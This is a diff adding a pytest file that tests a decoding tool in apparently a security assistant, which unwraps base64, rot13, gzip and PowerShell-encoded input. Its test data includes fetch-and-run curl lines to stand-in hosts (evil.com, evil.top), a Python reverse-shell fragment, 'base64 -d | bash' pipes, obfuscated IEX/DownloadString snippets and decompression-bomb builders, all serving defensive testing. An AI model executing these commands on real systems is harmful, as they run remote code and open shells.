@@ -1,0 +1,227 @@
+"""Decoding: each encoding, chains of them, blobs inside commands, what must be left alone, and hostile input."""
+
+from __future__ import annotations
+
+import base64
+import gzip
+import io
+import random
+import zipfile
+import zlib
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from svc.assistant.findings import Finding, Gap, Severity
+from svc.assistant.skills.decode import tool as decode
+from svc.assistant.skills.decode.decoders import MAX_LAYER_BYTES
+from tests.support import chains
+
+WIDE = base64.b64encode("IEX $x; whoami".encode("utf-16-le")).decode()
+
+
+def findings(text: str, kind: str = "decoded") -> list[Finding]:
+    return [item for item in decode.unwrap(text, source="prompt") if isinstance(item, Finding) and item.kind == kind]
+
+
+def results(text: str) -> list[str]:
+    return [str(finding.attributes["text"]) for finding in findings(text)]
+
+
+@pytest.mark.parametrize("name", list(chains.WRAPPERS))
+@pytest.mark.parametrize("plain", [chains.PLAIN[1], chains.PLAIN[2]], ids=["prose", "command"])
+def test_each_encoding_alone_is_undone(name, plain):
+    wrapped = chains.WRAPPERS[name](plain.encode(), random.Random(5)).decode()
+    assert plain in results(f"decode this: {wrapped}")
+
+
+@pytest.mark.parametrize(
+    "wrapped",
+    [
+        base64.b32encode(chains.PLAIN[1].encode()).decode(),
+        base64.b85encode(chains.PLAIN[1].encode()).decode(),
+        base64.encodebytes(chains.PLAIN[1].encode()).decode(),
+    ],
+    ids=["base32", "base85", "base64 lines"],
+)
+@pytest.mark.parametrize("name", ["payload = ", "the payload: ", "$data='"])
+def test_a_name_before_what_is_encoded_is_no_part_of_it(name, wrapped):
+    assert chains.PLAIN[1] in results(name + wrapped.strip() + ("';" if name.endswith("'") else ""))
+
+
+def test_the_name_of_an_encoding_is_not_decoded_with_the_rest():
+    assert results("rot13: phey uggc://rivy.pbz/n") == ["curl http://evil.com/a"]
+
+
+def test_backticks_within_a_run_quote_nothing():
+    plain = "import socket,subprocess;s=socket.socket();s.connect(('10.9.8.7',4444))"
+    wrapped = base64.b85encode(plain.encode()).decode()
+    assert wrapped.count("`") == 2
+    assert results(wrapped) == [plain]
+
+
+def solved(seeds: range) -> tuple[int, list[str]]:
+    failed = []
+    for seed in seeds:
+        rng = random.Random(seed)
+        plain, wrapped, names = chains.chain(rng, rng.randint(1, 4))
+        if not any(plain in text for text in results(f"decode this: {wrapped}")):
+            failed.append(f"{seed}: {names}")
+    return len(seeds) - len(failed), failed
+
+
+def test_chains_of_one_to_four_layers_are_undone():
+    right, failed = solved(range(60))
+    assert right >= 57, failed
+
+
+@pytest.mark.long
+def test_chains_of_one_to_four_layers_are_undone_long():
+    right, failed = solved(range(1_000, 1_600))
+    assert right >= 570, failed
+
+
+@pytest.mark.parametrize(
+    ("text", "result"),
+    [
+        (f"powershell -nop -w hidden -enc {WIDE}", "IEX $x; whoami"),
+        ("echo aWQ7d2hvYW1p | base64 -d | bash", "id;whoami"),
+        ("eval(atob('YWxlcnQoMSk='))", "alert(1)"),
+        ("decode aGVsbG8gd29ybGQ=", "hello world"),
+        ("what does SGVsbG8= mean?", "Hello"),
+        ("Uryyb Jbeyq", "Hello World"),
+        (".... . .-.. .-.. --- / .-- --- .-. .-.. -..", "HELLO WORLD"),
+        ("$a='Down'+'load'+'String'", "$a='DownloadString'"),
+        ("(\"{1}{0}\" -f 'X','IE')", "'IEX'"),
+        ("c^md /c e^cho hi", "cmd /c echo hi"),
+        ("```\naGVsbG8gd29ybGQ=\n```", "hello world"),
+    ],
+    ids=["-enc", "pipe", "atob", "asked", "asked about", "bare rot13", "morse", "joined", "-f", "carets", "fenced"],
+)  # fmt: skip
+def test_the_encoded_part_is_found_in_what_surrounds_it(text, result):
+    assert result in results(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "decode this:",
+        "what is CWE-79 and how do I fix it?",
+        "The quick responsibility of internationalization",
+        "d41d8cd98f00b204e9800998ecf8427e",
+        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
+        "550e8400-e29b-41d4-a716-446655440000",
+        "Nov 20 10:00:00 host sshd[1]: Failed password for root from 1.2.3.4 port 22 ssh2",
+        "https://example.com/path/to/Some/LongFileNameHere.html?session=abcdef1234567890",
+        "def internationalization(parameterDescription): return parameterDescription",
+        "192.168.1.1 10.0.0.1 2026-11-20 03:12:45 1,234,567",
+    ],
+)
+def test_ordinary_text_is_left_alone(text):
+    assert results(text) == []
+
+
+def test_noise_gives_a_gap_that_says_what_was_tried():
+    noise = random.Random(3).randbytes(300).hex()
+    items = list(decode.unwrap(f"decode this: {noise}", source="prompt"))
+    assert not [item for item in items if isinstance(item, Finding)]
+    assert any(isinstance(item, Gap) and "a key may be missing" in item.text for item in items)
+
+
+def test_each_layer_is_shown_in_order_and_the_indicators_of_the_last():
+    plain = "curl http://evil.top/x.sh | bash"
+    wrapped = base64.b64encode(gzip.compress(plain.encode())).hex()
+    layers = findings(wrapped, "decode_layer")
+    assert [layer.attributes["encoding"] for layer in layers] == ["hex", "Base64", "gzip"]
+    (result,) = findings(wrapped)
+    assert (result.attributes["path"], result.attributes["text"]) == ("hex, Base64, gzip", plain)
+    assert result.severity == Severity.HIGH
+    assert "http://evil.top/x.sh" in [f.attributes["value"] for f in findings(wrapped, "indicator")]
+
+
+def test_a_guess_says_that_it_is_one():
+    (result,) = findings("Gur zrrgvat vf zbirq gb Guhefqnl ng abba.")
+    assert result.confidence == "medium"
+    assert "guessed by what came out: rot13" in result.why
+
+
+def test_a_program_inside_is_named_and_hashed():
+    program = b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(200)
+    (result,) = findings(base64.b64encode(program).decode())
+    assert result.attributes["form"] == "Windows program (PE)"
+    assert result.attributes["text"] == ""
+    assert result.severity == Severity.HIGH
+
+
+def bomb(kind: str) -> str:
+    zeros = b"whoami; " * 4_000_000
+    if kind == "zip":
+        packed = io.BytesIO()
+        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
+            archive.writestr("a", zeros)
+        return base64.b64encode(packed.getvalue()).decode()
+    return base64.b64encode({"gzip": gzip.compress, "zlib": zlib.compress}[kind](zeros)).decode()
+
+
+@pytest.mark.parametrize("kind", ["gzip", "zlib", "zip"])
+def test_a_bomb_is_cut_and_said(kind):
+    (result,) = findings(bomb(kind))
+    assert result.attributes["is_cut"] is True
+    assert result.attributes["size"] <= MAX_LAYER_BYTES
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["A" * 200_000, "%41" * 60_000, "&#65;" * 40_000, "\\x41" * 40_000, "[char]65+" * 20_000, "'a'+" * 40_000,
+     "1," * 60_000, "01" * 60_000, ".-" * 60_000, "=41" * 60_000, "<~" * 60_000, "eyJ" * 40_000, "{0}" * 40_000,
+     "QUJD" * 20 + "\n" + ("QUJD" * 20 + "\n") * 2_000, "`" * 60_000, "begin 644 a\n" * 5_000],
+    ids=lambda text: repr(text[:9]),
+)  # fmt: skip
+@pytest.mark.timeout(40)
+def test_hostile_repetition_ends_soon(text):
+    assert list(decode.unwrap(text, source="x"))
+
+
+PIECES = [
+    "=", "==", "\\x41", "%u0041", "[char]65", "+", "'a'", "-f", "{0}", "<~", "~>", "eyJ", ".", "SGVs", "414243", "\n",
+    " ",    "&#65;", "é", "\0", "H4sI", "\\101", "begin 644 a\n", "end", "`", "65,", "0x41,", "chr(65)", "&#1114112;",
+    "\\ud800",     "fromCharCode(65,66,99999999)", "[char]99999",
+]  # fmt: skip
+
+
+@given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join) | st.text(max_size=60))
+@settings(max_examples=120, deadline=None)
+def test_no_text_makes_it_raise(text):
+    assert list(decode.unwrap(text, source="x"))
+
+
+@given(st.binary(min_size=1, max_size=200))
+@settings(max_examples=40, deadline=None)
+def test_no_bytes_inside_make_it_raise(data):
+    for head in (b"\x1f\x8b\x08", b"x\x9c", b"BZh9", b"\xfd7zXZ\0", b"PK\x03\x04", b""):
+        assert list(decode.unwrap(base64.b64encode(head + data).decode(), source="x"))
+
+
+@pytest.mark.parametrize(
+    ("text", "result"),
+    [
+        pytest.param("explain powershell -enc SQBFAFgA", "IEX", id="three letters"),
+        pytest.param("pwsh -nop -e bABzAA==", "ls", id="two letters, the shortest option"),
+        pytest.param("powershell.exe /ec dwBoAG8AYQBtAGkA", "whoami", id="slash and ec"),
+        pytest.param("decode: POWERSHELL -EncodedCommand 'aQBkAA=='", "id", id="long option, quoted"),
+        pytest.param("[Convert]::FromBase64String('aWQ=')", "id", id="call of .NET"),
+        pytest.param("echo bHM= | base64 -d | sh", "ls", id="pipe of a shell"),
+        pytest.param("bash -c $(base64 --decode <<< aWQ=)", "id", id="here-string"),
+        pytest.param('eval(atob("YWxlcnQoMSk="))', "alert(1)", id="atob"),
+        pytest.param("data:text/plain;base64,aGk=", "hi", id="data address"),
+    ],
+)
+def test_what_the_text_declares_is_decoded_however_short(text: str, result: str):
+    assert results(text) == [result]
+
+
+@pytest.mark.parametrize("text", ["grep -e pattern file.txt", "powershell -ep bypass", "tar -exclude some/path"])
+def test_other_options_declare_nothing(text: str):
+    assert results(text) == []
